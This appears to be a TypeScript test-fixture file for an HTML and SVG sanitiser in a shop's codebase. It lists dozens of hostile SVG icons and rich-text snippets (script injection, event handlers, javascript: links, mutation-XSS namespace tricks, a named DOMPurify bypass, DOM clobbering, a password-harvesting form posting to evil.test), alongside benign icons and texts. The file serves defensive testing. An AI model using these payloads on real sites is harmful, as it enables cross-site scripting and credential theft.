/**
 * Samples for the sanitiser's tests (sanitize-attacks.test.ts): hostile SVG icons and rich text
 * that must come out harmless, and real icons and texts that must come out unchanged.
 */
import { CATEGORIES, categoryIconSvg } from '../../shop-api/src/modules/catalogue/seed-data';

/** The shop API's origin in these samples: rich text may show its images. */
export const MEDIA_ORIGIN = 'https://api.shop.test';

const SVG_WITH_SCRIPT =
  'PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+';

/** Category icons with something hostile in them: [what, markup]. */
export const SVG_ATTACKS: [string, string][] = [
  ['script element', '<svg><script>alert(1)</script><circle r="5"/></svg>'],
  ['script with external href', '<svg><script href="https://evil.test/x.js"/></svg>'],
  ['ecmascript script', '<svg><script type="text/ecmascript">alert(1)</script></svg>'],
  ['onload on the root', '<svg onload="alert(1)"><circle r="5"/></svg>'],
  ['upper-case onload, slash separator', '<SVG/ONLOAD=alert(1)><circle r="5"/></SVG>'],
  ['handlers on shapes', '<svg><circle r="5" onclick="alert(1)" onmouseover="alert(2)"/></svg>'],
  ['focus handler', '<svg><g onfocusin="alert(1)" tabindex="1"><rect width="5" height="5"/></g></svg>'],
  ['handler on tspan', '<svg><text><tspan onmouseover="alert(1)">x</tspan></text></svg>'],
  ['javascript: link', '<svg><a href="javascript:alert(1)"><circle r="5"/></a></svg>'],
  [
    'javascript: xlink',
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  ],
  ['obfuscated javascript: link', '<svg><a href="  jav&#x09;ascript&colon;alert(1)"><rect width="4" height="4"/></a></svg>'],
  ['external link', '<svg><a href="https://evil.test/phish"><rect width="24" height="24"/></a></svg>'],
  ['external link in a new tab', '<svg><a href="https://evil.test" target="_blank"><circle r="4"/></a></svg>'],
  ['data: link', '<svg><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><text>x</text></a></svg>'],
  ['foreignObject with HTML', '<svg><foreignObject><div onmouseover="alert(1)">x</div></foreignObject></svg>'],
  ['foreignObject with iframe', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
  ['style @import', '<svg><style>@import url(https://evil.test/x.css);</style><circle r="5"/></svg>'],
  ['style with external url()', '<svg><style>circle{fill:url(https://evil.test/track.png)}</style><circle r="5"/></svg>'],
  ['style @font-face', '<svg><style>@font-face{font-family:x;src:url(https://evil.test/f.woff)}</style></svg>'],
  ['style hiding markup', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['external use', '<svg><use href="https://evil.test/sprite.svg#icon"/></svg>'],
  ['protocol-relative use', '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="//evil.test/s.svg#a"/></svg>'],
  ['data: use', `<svg><use xlink:href="data:image/svg+xml;base64,${SVG_WITH_SCRIPT}#x"/></svg>`],
  ['external image', '<svg><image href="https://evil.test/pixel.png" width="1" height="1"/></svg>'],
  ['javascript: image', '<svg><image xlink:href="javascript:alert(1)"/></svg>'],
  ['image with onerror', '<svg><image href="x" onerror="alert(1)"/></svg>'],
  ['external feImage', '<svg><filter id="f"><feImage href="https://evil.test/x.png"/></filter></svg>'],
  ['external gradient template', '<svg><linearGradient id="g" href="https://evil.test/g.svg#g"/></svg>'],
  ['external pattern template', '<svg><pattern id="p" href="https://evil.test/p.svg#p"/></svg>'],
  ['external textPath', '<svg><text><textPath href="https://evil.test/path.svg#p">x</textPath></text></svg>'],
  ['external paint server', '<svg><rect width="24" height="24" fill="url(https://evil.test/x.svg#p)"/></svg>'],
  [
    'external mask and filter',
    '<svg><path d="M0 0h9" mask="url(//evil.test/m.svg#m)" filter="url(https://evil.test/f#f)"/></svg>',
  ],
  ['external url() in style attribute', '<svg><rect width="9" height="9" style="fill:url(https://evil.test/x)"/></svg>'],
  ['CSS expression', '<svg><rect width="9" height="9" style="width:expression(alert(1));behavior:url(x.htc)"/></svg>'],
  ['javascript: in style', '<svg><rect style="background-image:url(\'javascript:alert(1)\')"/></svg>'],
  ['animated href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>'],
  ['set of a handler', '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'],
  ['animate onbegin', '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>'],
  ['discard onbegin', '<svg><discard onbegin="alert(1)"/></svg>'],
  ['handler element', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>'],
  ['CDATA breakout', '<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=alert(2)//"></svg>'],
  ['HTML in title', '<svg><title><img src=x onerror=alert(1)></title></svg>'],
  ['HTML in desc', '<svg><desc><img src=x onerror=alert(1)></desc></svg>'],
  ['DOMPurify 2.0.0 bypass', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['p/style namespace confusion', '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>'],
  ['math namespace confusion', '<svg><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['iframe srcdoc', '<svg><iframe srcdoc="<script>alert(1)</script>"></iframe></svg>'],
  ['base element', '<svg><base href="https://evil.test/"/><use href="#a"/></svg>'],
  ['clobbering the app root', '<svg id="___gatsby"><circle r="1"/></svg>'],
  ['clobbering document.cookie', '<svg><circle id="cookie" r="1"/></svg>'],
  ['trailing HTML after the icon', '<svg><circle r="5"/></svg><img src=x onerror=alert(1)><a href="https://evil.test">x</a>'],
];

/** Rich text (SEO texts, page bodies, FAQ answers) with something hostile in it. */
export const HTML_ATTACKS: [string, string][] = [
  ['script', '<p>Hi</p><script>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['entity-encoded javascript: link', '<a href="JaVaScRiPt&colon;alert(1)">x</a>'],
  ['numeric-entity javascript: link', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['control characters in the scheme', '<a href="java\u0000script:alert(1)">x</a><a href="\u0001javascript:alert(1)">y</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['iframe', '<iframe src="https://evil.test"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['object and embed', '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">'],
  ['phishing form', '<form action="https://evil.test/steal"><input name="password"><button>OK</button></form>'],
  ['formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['style attribute with javascript: url', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['CSS expression', '<div style="width:expression(alert(1))">x</div>'],
  ['style @import', '<style>@import "https://evil.test/x.css";</style><p>x</p>'],
  ['stylesheet link', '<link rel="stylesheet" href="https://evil.test/x.css"><p>x</p>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test"><p>x</p>'],
  ['base element', '<base href="https://evil.test/"><a href="/ua/">x</a>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['form/math mXSS', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  [
    'math/style comment mXSS',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['svg/style in rich text', '<svg><p><style><img src=x onerror=alert(1)></style></svg>'],
  ['template', '<template><script>alert(1)</script></template><p>x</p>'],
  ['tracking pixel', '<p>x</p><img src="https://evil.test/pixel.gif" width="1" height="1">'],
  ['srcset to another host', '<img src="/api/images/a.jpg" srcset="https://evil.test/a.png 1x">'],
  ['data: image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['details ontoggle', '<details open ontoggle="alert(1)"><summary>x</summary></details>'],
  ['media onerror', '<video><source onerror="alert(1)"></video><audio src="x" onerror="alert(1)"></audio>'],
  ['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['ping', '<a href="/ua/" ping="https://evil.test/ping">x</a>'],
  ['tab-nabbing', '<a href="https://evil.test" target="_blank">x</a>'],
  ['clobbering the app root', '<a href="/ua/" id="___gatsby">x</a>'],
  ['clobbering a document method', '<img name="getElementById" src="/api/images/a.jpg">'],
  ['marquee handler', '<marquee onstart="alert(1)">x</marquee>'],
  [
    'data: use in inline svg',
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
  ],
];

/** 24 x 24 icons as design tools export them; each must come out drawing the same picture. */
const EXTRA_ICONS: [string, string][] = [
  [
    'SVGO output with a gradient',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24"><defs><linearGradient id="a" x1="0" x2="1" y1="0" y2="1"><stop offset="0" stop-color="#ff8a00"/><stop offset="1" stop-color="#e52e71"/></linearGradient></defs><path fill="url(#a)" d="M12 2a10 10 0 1 0 0 20 10 10 0 0 0 0-20Z"/></svg>',
  ],
  [
    'Illustrator export with prolog and comment',
    '<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->\n<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px" viewBox="0 0 24 24" style="enable-background:new 0 0 24 24;" xml:space="preserve">\n<g>\n\t<polygon fill="#D32F2F" points="12,2 22,20 2,20 \t"/>\n\t<rect x="11" y="8" fill="#FFFFFF" width="2" height="6"/>\n\t<circle fill="#FFFFFF" cx="12" cy="17" r="1.2"/>\n</g>\n</svg>',
  ],
  [
    'Material symbol',
    '<svg xmlns="http://www.w3.org/2000/svg" height="24" viewBox="0 -960 960 960" width="24"><path d="M280-80v-366q-51-14-85.5-56T160-600v-280h80v280h40v-280h80v280h40v-280h80v280q0 56-34.5 98T360-446v366h-80Zm400 0v-320H560v-280q0-83 58.5-141.5T760-880v800h-80Z"/></svg>',
  ],
  [
    'Font Awesome with licence comment',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 512 512"><!--! Font Awesome Free 6.5.1 by @fontawesome - https://fontawesome.com License - https://fontawesome.com/license/free Copyright 2023 Fonticons, Inc. --><path fill="currentColor" d="M169.7 .9c-22.8-1.6-41.9 14-47.5 34.7L110.4 80c.5 0 1.1 0 1.6 0c176.7 0 320 143.3 320 320c0 .5 0 1.1 0 1.6l44.4-11.8c20.8-5.5 36.3-24.7 34.7-47.5C498.5 159.5 352.5 13.5 169.7 .9z"/></svg>',
  ],
  [
    'Inkscape with style attributes and a transform',
    '<svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 6.35 6.35"><g transform="translate(0 -290.65)"><path style="fill:#f4b400;fill-opacity:1;stroke:#6d4c41;stroke-width:0.26458332;stroke-linecap:round;stroke-linejoin:round" d="M.53 293.56h5.29l-.53 2.65H1.06z"/><ellipse cx="3.175" cy="292.99" rx="2.38" ry="0.79" style="fill:#fff8e1;stroke:#6d4c41;stroke-width:0.26"/></g></svg>',
  ],
  [
    'clip path and mask',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><defs><clipPath id="clip"><circle cx="12" cy="12" r="9"/></clipPath><mask id="hole"><rect width="24" height="24" fill="#fff"/><circle cx="16" cy="8" r="3" fill="#000"/></mask></defs><g clip-path="url(#clip)" mask="url(#hole)"><rect width="24" height="24" fill="#8bc34a"/></g></svg>',
  ],
  [
    'symbol reused with use',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24"><defs><path id="leaf" d="M4 20C4 10 10 4 20 4c0 10-6 16-16 16Z"/></defs><use xlink:href="#leaf" fill="#43a047"/><use href="#leaf" transform="rotate(90 12 12)" fill="#2e7d32" opacity=".6"/></svg>',
  ],
  [
    'accessible icon with title and desc',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" role="img" aria-labelledby="t d"><title id="t">Гаряче</title><desc id="d">Стилізований вогник</desc><path d="M12 2s6 5 6 11a6 6 0 0 1-12 0c0-3 2-5 2-5s0 3 2 4c0-5 2-10 2-10Z" fill="#ff5722" stroke="#bf360c" stroke-width="1"/></svg>',
  ],
  [
    'lines, polyline and dashes',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" fill="none" stroke="currentColor" stroke-width="2" stroke-linecap="round" stroke-linejoin="round"><line x1="3" y1="6" x2="21" y2="6"/><polyline points="4 10 8 14 12 10 16 14 20 10"/><line x1="3" y1="18" x2="21" y2="18" stroke-dasharray="2 3"/></svg>',
  ],
  [
    'radial gradient with transform',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><radialGradient id="g1" cx="12" cy="10" r="10" gradientUnits="userSpaceOnUse" gradientTransform="matrix(1 0 0 .8 0 2)"><stop offset="0" stop-color="#fff59d"/><stop offset=".7" stop-color="#fbc02d" stop-opacity=".9"/><stop offset="1" stop-color="#f57f17"/></radialGradient><ellipse cx="12" cy="12" rx="10" ry="8" fill="url(#g1)"/></svg>',
  ],
  [
    'text label',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><rect x="1" y="5" width="22" height="14" rx="3" fill="#c62828"/><text x="12" y="16" text-anchor="middle" font-family="Arial, sans-serif" font-size="8" font-weight="700" fill="#fff">HOT</text></svg>',
  ],
];

export const REAL_ICONS: [string, string][] = [
  ...CATEGORIES.map((c): [string, string] => [`seeded ${c.slug}`, categoryIconSvg(c.icon)]),
  ...EXTRA_ICONS,
];

/** Rich text as the content team writes it; must come out unchanged. */
export const REAL_RICH_TEXTS: [string, string][] = [
  [
    'SEO text',
    '<p><strong>Піца</strong> з доставкою по Одесі: тонке тісто та моцарела.</p><p>Готуємо лише після замовлення.</p>',
  ],
  [
    'contacts with phone, messenger and mail links',
    '<ul><li><a href="tel:+380957706262">+38 (095) 770-62-62</a></li></ul><p>Пишіть нам у <a href="https://t.me/smachna_hata_bot">Telegram</a> або <a href="viber://pa?chatURI=smachnahata">Viber</a>, на пошту <a href="mailto:hello@smachna-hata.example">hello@smachna-hata.example</a>.</p>',
  ],
  [
    'article with headings, list, quote and an image',
    '<h2>Як ми готуємо</h2><p>Тісто <em>відпочиває</em> 48 годин.</p><ol><li>Замішуємо</li><li>Чекаємо</li></ol><blockquote>Смачно!</blockquote><img src="/api/images/article-1.jpg" alt="Піч" width="800" height="600"><img src="https://api.shop.test/storage/oven.jpg" alt="">',
  ],
  [
    'table of delivery prices',
    '<table><thead><tr><th>Район</th><th>Мінімум, грн</th></tr></thead><tbody><tr><td>Центр</td><td>300</td></tr></tbody></table>',
  ],
  ['site link opened in a new tab', '<p><a href="/ua/page/delivery/" target="_blank" rel="noopener noreferrer">Доставка</a></p>'],
];
